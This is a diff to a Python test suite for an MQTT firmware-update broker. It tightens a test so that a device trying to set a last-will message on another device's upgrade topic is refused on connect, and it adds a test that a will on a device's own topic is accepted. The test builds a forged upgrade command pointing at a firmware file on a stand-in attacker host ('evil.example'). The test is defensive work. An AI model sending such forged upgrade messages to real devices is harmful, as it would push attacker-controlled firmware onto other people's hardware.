@@ -126,22 +126,19 @@ class TestRetainedAndWills:
         publisher.disconnect()
         listener.disconnect()
 
-    def test_a_will_on_another_devices_topic_is_dropped(self, server: Server, api: httpx.Client) -> None:
+    def test_a_will_on_another_devices_topic_refuses_the_connect(self, server: Server, api: httpx.Client) -> None:
         fleet = Fleet.create(api)
         forger_device, victim_device = fleet.device(), fleet.device()
         victim = subscribed(SimDevice.product_key(server, victim_device).connect(subscribe=False), "#")
         forger = SimDevice.product_key(server, forger_device)
         forged = {"code": "1000", "data": {"version": "6.6.6", "url": "http://evil.example/fw.bin"}, "id": 1}
         victim_topic = f"/ota/device/upgrade/{victim.topic_id}"
-        forger.client.will_set(victim_topic, json.dumps(forged), qos=1)
-        forger.connect(subscribe=False)
-        online(api, forger_device)
-        # Dropped without DISCONNECT: the broker sends the will.
-        forger.client.loop_stop()
-        sock = forger.client.socket()
-        assert sock is not None
-        sock.close()
-        wait_until(lambda: not api.get(f"/devices/{forger_device['id']}").json()["online"], what="the forger to go")
+        forger.client.will_set(victim_topic, json.dumps(forged), qos=1, retain=True)
+        reason = forger.try_connect()
+        assert reason.is_failure, reason
+        assert "authorized" in str(reason).lower(), reason
+        forger.disconnect()
+        assert not api.get(f"/devices/{forger_device['id']}").json()["online"]
 
         online(api, victim_device)
         fleet.campaign(fleet.package(firmware(600, seed=94), "2.3.0")["id"], device_ids=[victim_device["id"]])
@@ -149,3 +146,11 @@ class TestRetainedAndWills:
         assert victim.no_message(within=0.5)
         assert [notice["data"]["version"] for notice in victim.notices] == ["2.3.0"]
         victim.disconnect()
+
+    def test_a_will_on_its_own_topic_is_accepted(self, server: Server, api: httpx.Client) -> None:
+        device = Fleet.create(api).device()
+        sim = SimDevice.product_key(server, device)
+        sim.client.will_set(f"/ota/device/progress/{sim.topic_id}", '{"params":{"step":"-1","desc":"lost"}}', qos=1)
+        sim.connect()
+        assert sim.connected
+        sim.disconnect()
